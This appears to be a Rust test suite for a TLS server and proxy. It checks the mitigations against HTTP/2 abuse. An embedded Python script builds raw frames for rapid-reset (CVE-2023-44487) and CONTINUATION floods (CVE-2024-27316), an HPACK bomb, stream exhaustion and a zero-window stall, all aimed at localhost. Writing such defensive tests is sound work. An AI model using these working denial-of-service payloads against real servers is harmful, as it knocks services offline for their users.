//! HTTP/2 abuse, each case bounded, counted and tested (issue 22): rapid reset
//! (CVE-2023-44487), CONTINUATION flood (CVE-2024-27316), an HPACK bomb, too many concurrent
//! streams, a zero-window reader holding 100 streams. SETTINGS, PING, WINDOW_UPDATE and
//! PRIORITY floods have caps of their own: `http2_control_flood.rs`.
//!
//! The attacker writes raw frames over TLS with ALPN h2 (Python's `hyperframe` and `hpack`,
//! Debian `python3-h2`, which scripts/setup-tests.sh installs): no HTTP/2 library would send these. For each
//! case, against `serve --alpn h2,http/1.1 --idle-timeout 2` and against `proxy --mode http`
//! with the same flags in front of an HTTP/1.1 backend (each test runs for both: [`Kind`]):
//! (a) the attacker's connection ends with GOAWAY and the error code h2 gives for the attack,
//!     or is bounded otherwise (streams refused or reset, the connection closed at the idle
//!     timeout), within a bounded time;
//! (b) a legitimate client (curl --http2, a new connection per request) keeps getting its
//!     responses meanwhile;
//! (c) the server's VmRSS stays under its start-up size plus [`MEMORY_HEADROOM`];
//! (d) nothing panics (`Server::stop` checks stderr and the task-panic counter);
//! (e) the counter of the mitigation moved on /metrics (the proxy's under its own names:
//!     `proxy_h2_*`, `proxy_idle_timeouts`).
//! Each case says what it would show without its mitigation.

use std::collections::BTreeMap;
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed};
use std::sync::Arc;
use std::time::Duration;

use crate::metrics::{admin_port, http_get};
use crate::support::fixtures;
use crate::support::tools::{self, require};
use crate::support::Server;

/// The server's idle timeout in these tests (`--idle-timeout`): also how long a stream may
/// wait for window and a client may take none of our bytes.
const IDLE: u64 = 2;
/// Seconds allowed past a deadline of the server's (timers run late on a loaded machine).
const SLACK: f64 = 3.0;
/// How much the server's resident memory may grow over its size before the attack. One h2
/// connection may hold at most 100 streams × 32 KiB queued (SEND_BUFFER), an 18 KiB header
/// list being decoded, a 4 KiB HPACK table and its transport's buffers (~64 KiB): ~3.5 MiB.
/// The legitimate client's connections come and go. 32 MiB leaves the allocator room and is
/// still far below what each attack costs unbounded (the HPACK bomb alone decodes to ~64 MB
/// per request, a CONTINUATION flood grows by ~100 MB/s).
const MEMORY_HEADROOM: u64 = 32 << 20;

// h2's error codes (RFC 9113 §7).
const CANCEL: u64 = 8;
const REFUSED_STREAM: u64 = 7;
const ENHANCE_YOUR_CALM: u64 = 11;

/// The attacker: `python3 - CASE PORT PATH SECONDS`; prints what the server sent back as JSON
/// (the GOAWAY's error code, RST_STREAMs by code, HEADERS and DATA bytes received, when the
/// connection ended).
const ATTACK: &str = r##"import json, socket, ssl, struct, sys, threading, time
from hpack import Encoder
from hyperframe.frame import (Frame, HeadersFrame, ContinuationFrame, RstStreamFrame,
    SettingsFrame, PingFrame, WindowUpdateFrame, PriorityFrame, GoAwayFrame, DataFrame)

case, port, path, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port), timeout=10)
s = ctx.wrap_socket(raw, server_hostname="localhost")
assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
enc = Encoder()
out = {"goaway": None, "rst": {}, "headers": 0, "data": 0, "closed_after": None, "sent": 0}
closed = threading.Event()
settings_seen = threading.Event()
start = time.monotonic()

# One thread reads and writes (an ssl socket read and written from two threads at once may
# corrupt its records): `pump` reads what has come, between the attacker's writes.
buf = b""

def send(b):
    s.settimeout(5)
    s.sendall(b)

def pump(timeout):
    global buf
    if closed.is_set():
        return
    s.settimeout(timeout)
    try:
        while True:
            d = s.recv(65536)
            if not d:
                raise EOFError
            buf += d
            while len(buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(buf[:9]))
                if len(buf) < 9 + length:
                    break
                f.parse_body(memoryview(buf[9:9 + length]))
                buf = buf[9 + length:]
                if isinstance(f, GoAwayFrame):
                    out["goaway"] = f.error_code
                elif isinstance(f, RstStreamFrame):
                    out["rst"][str(f.error_code)] = out["rst"].get(str(f.error_code), 0) + 1
                elif isinstance(f, HeadersFrame):
                    out["headers"] += 1
                elif isinstance(f, DataFrame):
                    out["data"] += len(f.data)
                elif isinstance(f, SettingsFrame) and "ACK" not in f.flags:
                    send(SettingsFrame(0, flags=["ACK"]).serialize())
                    settings_seen.set()
            s.settimeout(0.0)
    except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
        return
    except (OSError, ssl.SSLError, ValueError, EOFError):
        out["closed_after"] = round(time.monotonic() - start, 3)
        closed.set()

def wait_for(cond, seconds):
    end = time.monotonic() + seconds
    while not cond() and not closed.is_set() and time.monotonic() < end:
        pump(0.05)

def request(sid, end_stream=True, extra=()):
    hdrs = [(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "localhost")]
    hdrs += list(extra)
    flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
    return HeadersFrame(sid, enc.encode(hdrs), flags=flags).serialize()

settings = {}
if case == "zero_window":
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0, settings=settings).serialize())
wait_for(settings_seen.is_set, 5)
wait_for(lambda: False, 0.05)
deadline = start + seconds

def flood(make):
    # Writes frames in batches until the server ends the connection or the time is up.
    n = 0
    try:
        while not closed.is_set() and time.monotonic() < deadline:
            send(b"".join(make(n + i) for i in range(100)))
            n += 100
            pump(0)
    except OSError:
        pass
    return n

try:
    if case == "rapid_reset":
        def rr(i):
            sid = 1 + 2 * i
            return request(sid) + RstStreamFrame(sid, error_code=8).serialize()
        out["sent"] = flood(rr)
    elif case == "continuation":
        # HEADERS without END_HEADERS, then CONTINUATION frames that never end the block.
        # The block starts a field whose value is announced as 1 MB long; each CONTINUATION
        # carries 1,000 more bytes of it (valid HPACK, never complete).
        hb = enc.encode([(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "localhost")])
        n, v = b"", 1000000 - 127
        while v >= 128:
            n += bytes([v % 128 | 0x80]); v //= 128
        hb += b"\x40\x01x\x7f" + n + bytes([v])
        send(HeadersFrame(1, hb, flags=["END_STREAM"]).serialize())
        # 50 frames, then a pause in which a server that allows fewer has ended the
        # connection; then the endless part.
        send(b"".join(ContinuationFrame(1, b"a" * 1000).serialize() for _ in range(50)))
        wait_for(lambda: False, 2.0)
        n = 50
        if not closed.is_set():
            n += flood(lambda i: ContinuationFrame(1, b"a" * 1000).serialize())
        out["sent"] = n
    elif case == "hpack_bomb":
        big = b"a" * 4000
        # One literal with incremental indexing: the dynamic table's entry 62.
        lit = b"\x40\x06x-bomb\x7f" + bytes([0x80 | ((4000 - 127) & 0x7f), (4000 - 127) >> 7]) + big
        first = enc.encode([(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", "localhost")])
        send(HeadersFrame(1, first + lit, flags=["END_HEADERS", "END_STREAM"]).serialize())
        # Its answer first: the field is in the server's table.
        wait_for(lambda: out["headers"] >= 1, deadline - time.monotonic())
        # Then each request references it 16,000 times: 16 KB on the wire, ~64 MB decoded.
        def bomb(i):
            pseudo = b"\x82\x87\x84"  # :method GET, :scheme https, :path /  (static table)
            return HeadersFrame(3 + 2 * i, pseudo + b"\xbe" * 16000, flags=["END_HEADERS", "END_STREAM"]).serialize()
        n = 0
        try:
            while not closed.is_set() and time.monotonic() < deadline and n < 1000:
                send(bomb(n)); n += 1
                pump(0)
        except OSError:
            pass
        out["sent"] = n
    elif case == "streams":
        # Streams that stay open (no END_STREAM), far past SETTINGS_MAX_CONCURRENT_STREAMS.
        send(b"".join(request(1 + 2 * i, end_stream=False) for i in range(400)))
        out["sent"] = 400
    elif case == "zero_window":
        # A zero initial window: responses' DATA can never be sent; no WINDOW_UPDATE ever.
        send(b"".join(request(1 + 2 * i) for i in range(100)))
        out["sent"] = 100
    else:
        raise SystemExit("unknown case " + case)
except OSError:
    pass
out["flood_ended"] = round(time.monotonic() - start, 3)
wait_for(lambda: False, deadline - time.monotonic())
print(json.dumps(out))
"##;

/// A Python with hyperframe and hpack: the one in PATH, or Debian's (python3-h2).
pub(crate) fn python_with_h2() -> &'static str {
    ["python3", "/usr/bin/python3"]
        .into_iter()
        .find(|py| {
            Command::new(py)
                .args(["-c", "import hyperframe, hpack"])
                .output()
                .is_ok_and(|o| o.status.success())
        })
        .unwrap_or_else(|| {
            panic!("these tests need Python's hyperframe and hpack (apt-get install python3-h2)")
        })
}

#[derive(Debug)]
struct Outcome {
    /// The GOAWAY's error code, if one came.
    goaway: Option<u64>,
    /// RST_STREAMs received, by error code.
    rst: BTreeMap<u64, u64>,
    headers: u64,
    data: u64,
    /// Seconds from the attacker's start to the end of its connection (None: still open at
    /// the end of the attack).
    closed_after: Option<f64>,
    /// Frames (or requests) the attacker sent.
    sent: u64,
    /// The server's largest VmRSS during the attack over its size before it.
    rss_growth: u64,
    /// The legitimate client's responses (all 200) and failures during the attack.
    legit_ok: u64,
    legit_failed: u64,
    /// /metrics counters' moves (`tlsplane_NAME_total`), by NAME.
    moved: BTreeMap<String, u64>,
}

impl Outcome {
    fn rst(&self, code: u64) -> u64 {
        self.rst.get(&code).copied().unwrap_or(0)
    }
}

fn vm_rss(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    tools::line_value(&status, &["VmRSS:"])
        .and_then(|v| v.trim_end_matches("kB").trim().parse::<u64>().ok())
        .map_or(0, |kb| kb * 1024)
}

/// Every `tlsplane_*_total` counter on /metrics.
fn counters(admin: u16) -> BTreeMap<String, u64> {
    http_get(admin, "/metrics")
        .lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| {
            let (name, value) = l.split_once(' ')?;
            let name = name.strip_prefix("tlsplane_")?.strip_suffix("_total")?;
            Some((name.to_string(), value.trim().parse::<f64>().ok()? as u64))
        })
        .collect()
}

/// curl --http2 for `path`, once; true when it got a 200 over h2.
fn legit_request(port: u16, path: &str) -> bool {
    let mut c = Command::new("curl");
    c.args(["-sS", "--http2", "--max-time", "10", "-o", "/dev/null"])
        .args(["-w", "%{http_version} %{http_code}"])
        .arg("--cacert")
        .arg(&fixtures::pki().ca_pem)
        .args(["--resolve", &format!("localhost:{port}:127.0.0.1")])
        .arg(format!("https://localhost:{port}{path}"));
    let out = tools::run(c, b"", Duration::from_secs(20));
    out.status.success() && out.stdout_text() == "2 200"
}

/// Runs one attack for at most `seconds` against the target's server while a legitimate
/// client fetches a small file over h2 in a loop and the server's memory is sampled.
fn attack(target: &Target, case: &str, path: &str, seconds: f64) -> Outcome {
    require("curl");
    let py = python_with_h2();
    let server = &target.server;
    let port = server.port();
    let admin = admin_port(server);
    let small = target.small.clone();
    assert!(
        legit_request(port, &small),
        "the server does not answer over h2"
    );
    let before = counters(admin);
    let base_rss = vm_rss(server.pid());
    let done = Arc::new(AtomicBool::new(false));
    let peak = Arc::new(AtomicU64::new(base_rss));
    let sampler = {
        let (done, peak, pid) = (done.clone(), peak.clone(), server.pid());
        std::thread::spawn(move || {
            while !done.load(Relaxed) {
                peak.fetch_max(vm_rss(pid), Relaxed);
                std::thread::sleep(Duration::from_millis(10));
            }
        })
    };
    let legit = {
        let done = done.clone();
        std::thread::spawn(move || {
            let (mut ok, mut failed) = (0, 0);
            while !done.load(Relaxed) {
                if legit_request(port, &small) {
                    ok += 1;
                } else {
                    failed += 1;
                }
            }
            (ok, failed)
        })
    };
    let mut cmd = Command::new(py);
    cmd.args([
        "-c",
        ATTACK,
        case,
        &port.to_string(),
        path,
        &seconds.to_string(),
    ]);
    let out = tools::run(cmd, b"", Duration::from_secs_f64(seconds + 30.0));
    done.store(true, Relaxed);
    let _ = sampler.join();
    let (legit_ok, legit_failed) = legit.join().expect("legitimate client");
    assert!(out.status.success(), "attacker {case}: {}", out.describe());
    let v: serde_json::Value = serde_json::from_str(out.stdout_text().trim())
        .unwrap_or_else(|e| panic!("attacker output ({e}): {}", out.describe()));
    let after = counters(admin);
    // By the names `serve` uses: the cases assert the same counters for both products.
    let moved = after
        .iter()
        .map(|(k, v)| {
            let moved = v - before.get(k).copied().unwrap_or(0);
            let name = target.kind.names().iter().find(|(_, theirs)| theirs == k);
            (name.map_or(k.as_str(), |(ours, _)| ours).to_string(), moved)
        })
        .collect();
    let outcome = Outcome {
        goaway: v["goaway"].as_u64(),
        rst: v["rst"]
            .as_object()
            .expect("rst")
            .iter()
            .map(|(k, n)| (k.parse().expect("code"), n.as_u64().expect("count")))
            .collect(),
        headers: v["headers"].as_u64().unwrap_or(0),
        data: v["data"].as_u64().unwrap_or(0),
        closed_after: v["closed_after"].as_f64(),
        sent: v["sent"].as_u64().unwrap_or(0),
        rss_growth: peak.load(Relaxed).saturating_sub(base_rss),
        legit_ok,
        legit_failed,
        moved,
    };
    eprintln!("{case}: {outcome:?}");
    outcome
}

/// What the attacks are run against.
#[derive(Clone, Copy, Debug)]
enum Kind {
    /// `serve`, its fixture files.
    Serve,
    /// `proxy --mode http` in front of [`backend`] (HTTP/1.1).
    Proxy,
}

impl Kind {
    /// The counters the cases look at: (serve's name, this product's name).
    fn names(self) -> &'static [(&'static str, &'static str)] {
        match self {
            Kind::Serve => &[],
            Kind::Proxy => &[
                ("h2_goaway_calm", "proxy_h2_goaway_calm"),
                ("h2_stalls", "proxy_h2_stalls"),
            ],
        }
    }
}

/// A server under attack, and what its clients ask for.
struct Target {
    kind: Kind,
    server: Server,
    /// A small response (what the legitimate client fetches).
    small: String,
    /// A response far larger than one stream may queue (the zero-window reader's).
    big: String,
}

/// A keep-alive HTTP/1.1 backend: `GET /big`, 16 MiB; anything else, `hello`. A thread per
/// connection: the proxy may hold 100 at once (one per stream).
fn backend() -> std::net::SocketAddr {
    static BIG: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    let big: &'static [u8] = BIG.get_or_init(|| vec![b'x'; 16 << 20]);
    crate::support::keep_alive_backend_by(move |request_line| {
        if request_line.starts_with("GET /big ") {
            big
        } else {
            b"hello"
        }
    })
}

fn h2_server(kind: Kind) -> Target {
    let builder = match kind {
        Kind::Serve => Server::builder(),
        Kind::Proxy => Server::builder()
            .proxy(&[backend().to_string()])
            .arg("--mode")
            .arg("http"),
    };
    let server = builder
        .arg("--alpn")
        .arg("h2,http/1.1")
        .arg("--idle-timeout")
        .arg(IDLE.to_string())
        .arg("--admin")
        .arg("127.0.0.1:0")
        .start();
    let (small, big) = match kind {
        Kind::Serve => (
            fixtures::get().hello.url.clone(),
            fixtures::get().big().url.clone(),
        ),
        Kind::Proxy => ("/small".to_string(), "/big".to_string()),
    };
    Target {
        kind,
        server,
        small,
        big,
    }
}

/// What every case asserts besides its own: the connection ended within `bound` seconds, the
/// legitimate client was served throughout, memory stayed bounded; then the server stops
/// cleanly with no panic.
fn common(target: Target, o: &Outcome, bound: f64) {
    let closed = o
        .closed_after
        .unwrap_or_else(|| panic!("the attacker's connection was still open: {o:?}"));
    assert!(
        closed <= bound,
        "the connection lasted {closed} s > {bound} s: {o:?}"
    );
    assert!(
        o.legit_ok >= 1 && o.legit_failed == 0,
        "legitimate client: {o:?}"
    );
    assert!(
        o.rss_growth < MEMORY_HEADROOM,
        "memory grew by {} bytes: {o:?}",
        o.rss_growth
    );
    target.server.stop();
}

fn rapid_reset_ends_with_enhance_your_calm(kind: Kind) {
    if !require("python3") {
        return; // the kernel-plane guest has no Python
    }
    // HEADERS then RST_STREAM, over and over (CVE-2023-44487). h2 counts streams reset before
    // we accepted them; past MAX_PENDING_ACCEPT_RESETS (20) it sends GOAWAY(ENHANCE_YOUR_CALM).
    // Without the limit the attacker would make us start (and drop) streams at line rate for
    // as long as it likes: no GOAWAY, the connection open at the end of the attack.
    let target = h2_server(kind);
    let o = attack(&target, "rapid_reset", "/", 5.0);
    assert_eq!(o.goaway, Some(ENHANCE_YOUR_CALM), "{o:?}");
    assert!(o.moved["h2_goaway_calm"] >= 1, "{o:?}");
    common(target, &o, 2.0);
}

fn continuation_flood_ends_with_enhance_your_calm(kind: Kind) {
    if !require("python3") {
        return; // the kernel-plane guest has no Python
    }
    // HEADERS without END_HEADERS starting a field announced as 1 MB, then CONTINUATION
    // frames of 1,000 bytes of it that never end the block (CVE-2024-27316). h2 allows a
    // block MAX_HEADER_LIST / frame size + 25% CONTINUATION frames (at least 5), then sends
    // GOAWAY(ENHANCE_YOUR_CALM) ("too_many_continuations"). With h2's default list size (16
    // MiB) it would take 1,280 frames (and buffer up to 16 MiB) first: the connection would
    // outlive the first 50; without any limit the buffer grows for the whole attack.
    let target = h2_server(kind);
    let o = attack(&target, "continuation", "/", 5.0);
    assert_eq!(o.goaway, Some(ENHANCE_YOUR_CALM), "{o:?}");
    // It ended within the first 50 frames (5 are allowed), not later in the flood.
    assert_eq!(o.sent, 50, "{o:?}");
    assert!(o.moved["h2_goaway_calm"] >= 1, "{o:?}");
    common(target, &o, 2.0);
}

fn hpack_bomb_is_refused_and_ends_with_enhance_your_calm(kind: Kind) {
    if !require("python3") {
        return; // the kernel-plane guest has no Python
    }
    // One 4,000-byte field into the HPACK table, then requests of 16,000 one-byte references
    // to it: 16 KB on the wire, ~64 MB decoded each. h2 counts the decoded size as it goes:
    // past MAX_HEADER_LIST it keeps no more fields (the stream would get a 431), and past
    // MAX_HEADER_LIST × h2's abuse multiplier it stops decoding and ends the connection with
    // GOAWAY(ENHANCE_YOUR_CALM) ("header_list_way_too_large"), at the first bomb. With h2's
    // default list size (16 MiB; × 4 = 64 MiB, more than a bomb's 64.6 MB) each bomb would
    // be decoded in full and answered 431, until 100 of them: the HEADERS count fails.
    let target = h2_server(kind);
    let o = attack(&target, "hpack_bomb", "/", 5.0);
    assert_eq!(o.goaway, Some(ENHANCE_YOUR_CALM), "{o:?}");
    assert!(o.moved["h2_goaway_calm"] >= 1, "{o:?}");
    // The first request, whose field went into the table, was answered.
    assert_eq!(o.headers, 1, "{o:?}");
    common(target, &o, 2.0);
}

fn too_many_streams_are_refused_then_the_connection_ends(kind: Kind) {
    if !require("python3") {
        return; // the kernel-plane guest has no Python
    }
    // 400 requests whose streams stay open (no END_STREAM). The first 100
    // (MAX_CONCURRENT_STREAMS) are taken; each one past it is refused with
    // RST_STREAM(REFUSED_STREAM), and the refusals count against MAX_LOCAL_ERROR_RESETS
    // (100): GOAWAY(ENHANCE_YOUR_CALM). Without the stream limit all 400 would be open.
    let target = h2_server(kind);
    let o = attack(&target, "streams", "/", 5.0);
    assert_eq!(o.rst(REFUSED_STREAM), 100, "{o:?}");
    assert_eq!(o.goaway, Some(ENHANCE_YOUR_CALM), "{o:?}");
    assert!(o.moved["h2_goaway_calm"] >= 1, "{o:?}");
    common(target, &o, 2.0);
}

fn zero_window_reader_has_its_streams_reset_then_the_connection_ends(kind: Kind) {
    if !require("python3") {
        return; // the kernel-plane guest has no Python
    }
    // SETTINGS_INITIAL_WINDOW_SIZE = 0 and 100 requests for the 64 MiB file, never a
    // WINDOW_UPDATE: the responses' heads go out (HEADERS is not flow-controlled), no body
    // byte can. Each stream is reset (CANCEL) after IDLE seconds without window and counted
    // as a stall; the connection, then without streams, is closed by the idle timeouts. At most
    // SEND_BUFFER per stream is queued meanwhile. Without the stall deadline the 100 streams
    // (and the connection) would be held for as long as the client stays.
    let target = h2_server(kind);
    let big = target.big.clone();
    let o = attack(
        &target,
        "zero_window",
        &big,
        3.0 * IDLE as f64 + SLACK + 1.0,
    );
    assert_eq!(o.headers, 100, "{o:?}");
    assert_eq!(o.data, 0, "{o:?}");
    assert_eq!(o.rst(CANCEL), 100, "{o:?}");
    assert!(o.moved["h2_stalls"] >= 100, "{o:?}");
    common(target, &o, 3.0 * IDLE as f64 + SLACK);
}

/// Each case as a test against each product.
macro_rules! against {
    ($kind:ident: $($case:ident),* $(,)?) => {
        $(
            #[test]
            fn $case() {
                super::$case(super::Kind::$kind);
            }
        )*
    };
}

mod serve {
    against!(Serve: rapid_reset_ends_with_enhance_your_calm, continuation_flood_ends_with_enhance_your_calm, hpack_bomb_is_refused_and_ends_with_enhance_your_calm, too_many_streams_are_refused_then_the_connection_ends, zero_window_reader_has_its_streams_reset_then_the_connection_ends);
}

mod proxy {
    against!(Proxy: rapid_reset_ends_with_enhance_your_calm, continuation_flood_ends_with_enhance_your_calm, hpack_bomb_is_refused_and_ends_with_enhance_your_calm, too_many_streams_are_refused_then_the_connection_ends, zero_window_reader_has_its_streams_reset_then_the_connection_ends);
}
